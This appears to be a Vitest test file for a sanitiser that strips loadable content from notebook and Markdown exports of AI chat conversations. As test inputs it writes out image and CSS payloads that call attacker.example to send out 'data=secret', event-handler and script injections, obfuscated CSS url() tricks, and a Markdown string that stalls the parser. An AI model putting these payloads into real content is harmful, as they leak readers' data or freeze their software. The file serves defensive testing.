// @vitest-environment jsdom
import { describe, expect, it } from "vitest";
import { Lexer } from "marked";
import { toMarkdown, toNotebook } from "../chat/export";
import type { ChatMessage, Conversation } from "../model/conversation";
import type { MimeBundle } from "../../workers/python-api";
import { ATTACKER_HOST, PAYLOAD_ANSWER, PAYLOAD_BUNDLES, PLAIN_LINK, scanHtml, scanMarkdown, scanNotebook } from "../../e2e/support/export-payloads";
import { cleanBundle, cleanMarkdown, exportCleaner } from "./output-cleaner";

const conversation: Conversation = { id: "c1", title: "Payloads", createdAt: 1, updatedAt: 2, usage: { inputTokens: 0, outputTokens: 0 } };

/** A conversation whose answer is `answer` and whose one cell displayed `bundles`. */
function conversationShowing(answer: string, bundles: MimeBundle[]): ChatMessage[] {
  const base = { conversationId: conversation.id, createdAt: 1 };
  return [
    { ...base, id: "m0", seq: 0, role: "user", content: [{ type: "text", text: "Show me" }] },
    {
      ...base,
      id: "m1",
      seq: 1,
      role: "assistant",
      status: "done",
      content: [{ type: "text", text: answer }, { type: "tool_call", id: "t1", name: "python", input: { code: "show()" } }],
    },
    {
      ...base,
      id: "m2",
      seq: 2,
      role: "user",
      content: [{ type: "tool_result", callId: "t1", content: [{ type: "text", text: "" }] }],
      cells: [{ toolUseId: "t1", code: "show()", status: "ok", outputs: bundles.map((data) => ({ kind: "display" as const, data })) }],
    },
  ];
}

const asIs = { bundle: (data: MimeBundle) => data, markdown: (text: string) => text };

describe("exports carry nothing that loads or runs", () => {
  const messages = conversationShowing(PAYLOAD_ANSWER, PAYLOAD_BUNDLES);

  it("the payloads, exported as they are, would load and run (the scanner sees each kind)", () => {
    const problems = scanNotebook(toNotebook(conversation, messages, asIs));
    for (const kind of ["<script>", "event handler", "CSS @import", "CSS url(", "loads https", "a type readers may run", "not a plain link", "not base64"]) {
      expect(problems.some((problem) => problem.includes(kind)), kind).toBe(true);
    }
    for (const name of ["svg-image", "svg-xlink-image", "feimage", "use-xlink", "escaped-url", "md-image", "md-reference", "md-list-image", "answer-image", "answer-inline"]) {
      expect(problems.some((problem) => problem.includes(name)), name).toBe(true);
    }
    expect(scanMarkdown(toMarkdown(conversation, messages, asIs), "Markdown")).not.toEqual([]);
  });

  it("the notebook export has none of it, and keeps what is harmless", () => {
    const file = toNotebook(conversation, messages, exportCleaner);
    expect(scanNotebook(file)).toEqual([]);
    const notebook = JSON.parse(file);
    const outputs = notebook.cells[2].outputs.map((output: { data: Record<string, string[] | string> }) =>
      Object.fromEntries(Object.entries(output.data).map(([mime, value]) => [mime, Array.isArray(value) ? value.join("") : value])),
    );
    const html = outputs[0]["text/html"];
    expect(html).toContain("<b>kept bold</b>");
    expect(html).toContain(`<a href="${PLAIN_LINK}">plain link</a>`);
    // A remote image becomes a link labelled with its alt text; harmless CSS stays.
    expect(html).toMatch(/<a href="https:\/\/attacker\.example\/img\?data=secret">remote picture<\/a>/);
    expect(html).toContain("color: green");
    expect(html).toContain("p { color: red }");
    expect(outputs[1]["image/svg+xml"]).toContain('filter="url(#f)"');
    expect(outputs[2]["text/markdown"]).toContain("# Kept heading");
    expect(outputs[2]["text/markdown"]).toContain("Inline <span>styled</span> text.");
    expect(outputs[2]["text/markdown"]).toContain(`[Image: remote chart](<https://${ATTACKER_HOST}/md-image?data=secret>)`);
    // Types readers would run or fetch for are gone; without text/plain, they are kept as text.
    expect(outputs[3]).toEqual({ "text/plain": "vega" });
    expect(Object.keys(outputs[4])).toEqual(["text/plain"]);
    expect(outputs[4]["text/plain"]).toContain("application/vnd.vega.v5+json");
    expect(outputs[7]).toEqual({ "text/plain": "javascript" });
    expect(outputs[8]).toEqual({ "text/plain": "widget" });
    expect(outputs[9]).toEqual({ "text/plain": "latex" });
    expect(outputs[10]).toEqual({ "text/plain": "png" });
    expect(outputs[11]["image/png"]).toBe(PAYLOAD_BUNDLES[11]["image/png"]);
    const answer = notebook.cells[1].source.join("");
    expect(answer).toContain("<sub>kept</sub>");
    expect(answer).toContain(`[the source](${PLAIN_LINK})`);
  });

  it("the Markdown export has none of it", () => {
    const markdown = toMarkdown(conversation, messages, exportCleaner);
    expect(scanMarkdown(markdown, "Markdown")).toEqual([]);
    expect(markdown).toContain(`[Image: chart](<https://${ATTACKER_HOST}/answer-image?data=secret>)`);
  });
});

describe("cleanBundle", () => {
  it("trims and lower-cases keys; of two that become one, neither smuggles anything", () => {
    const bundle = cleanBundle({ " Text/HTML ": '<img src="https://attacker.example/a" onerror="x()">', "text/html": "<i>twin</i>" });
    expect(bundle).toEqual({ "text/html": "<i>twin</i>" });
    const alone = cleanBundle({ "TEXT/HTML; charset=utf-8": '<b onclick="x()">b</b><script>x()</script>' });
    expect(alone).toEqual({ "text/html": "<b>b</b>" });
  });

  it("keeps local references in SVG (matplotlib's clip paths and embedded images) and the SVG stays XML", () => {
    const png = "data:image/png;base64,iVBORw0KGgo=";
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="4" height="4"><defs><clipPath id="p1"><rect width="4" height="4"/></clipPath></defs><g clip-path="url(#p1)" style="fill: url(#p1)"><image xlink:href="${png}" width="4" height="4"/></g></svg>`;
    const cleaned = cleanBundle({ "image/svg+xml": svg })["image/svg+xml"];
    expect(cleaned).toContain('clip-path="url(#p1)"');
    expect(cleaned).toContain("fill: url(#p1)");
    expect(cleaned).toContain(png);
    const xml = new DOMParser().parseFromString(cleaned, "image/svg+xml");
    expect(xml.querySelector("parsererror")).toBeNull();
  });

  it("drops CSS that loads however it is written, and keeps the rest of the rule", () => {
    const tricks = [
      "background: \\75 rl(https://attacker.example/a)",
      "background: u\\rl(https://attacker.example/b)",
      "background-image: image-set('https://attacker.example/c' 1x)",
      'content: "/*"; background: url(https://attacker.example/d); content: "*/"',
    ];
    for (const css of tricks) {
      const html = cleanBundle({ "text/html": `<p style='color: red; ${css}'>x</p><style>p { color: red; ${css} }</style>` })["text/html"];
      expect(scanHtml(html, css)).toEqual([]);
      expect(html).toContain("color: red");
    }
  });
});

describe("cleanMarkdown", () => {
  it("shows a part it cannot clean in place (HTML over lines in a list) as source", () => {
    const source = `- item\n\n  <div>\n  <img src="https://attacker.example/x">\n  </div>\n\nafter`;
    // The attack is real: rendered as it is, the image loads.
    expect(scanMarkdown(source, "before")).not.toEqual([]);
    const cleaned = cleanMarkdown(source);
    expect(scanMarkdown(cleaned, "after")).toEqual([]);
    expect(cleaned).toContain("after");
    expect(Lexer.lex(cleaned).some((token) => token.type === "code")).toBe(true);
  });

  it("turns an image inside a link into its label, and one in an image's alt text too", () => {
    const source = `[![logo](https://attacker.example/logo.png)](https://example.org/) and ![![inner](https://attacker.example/i)](https://attacker.example/o)`;
    const cleaned = cleanMarkdown(source);
    expect(scanMarkdown(cleaned, "cleaned")).toEqual([]);
    expect(cleaned).toContain("[Image: logo](https://example.org/)");
  });

  it("keeps Markdown that marked would take seconds to read as a code block of its source, at once", () => {
    const source = `Done. ${"_*a".repeat(8000)}`;
    // The attack is real: marked's lexer alone blocks for seconds on it.
    const start = performance.now();
    Lexer.lex(source, { gfm: true });
    expect(performance.now() - start).toBeGreaterThan(1000);
    const cleaned = cleanMarkdown(source);
    expect(cleaned).toBe(`\`\`\`\n${source}\n\`\`\`\n`);
  });

  it("keeps links, code and text as they are", () => {
    const source = "Text with `![code](https://attacker.example/c)` and [a link](https://example.org/).\n\n```\n<img src=https://attacker.example/block>\n```\n";
    expect(cleanMarkdown(source)).toBe(source);
  });
});
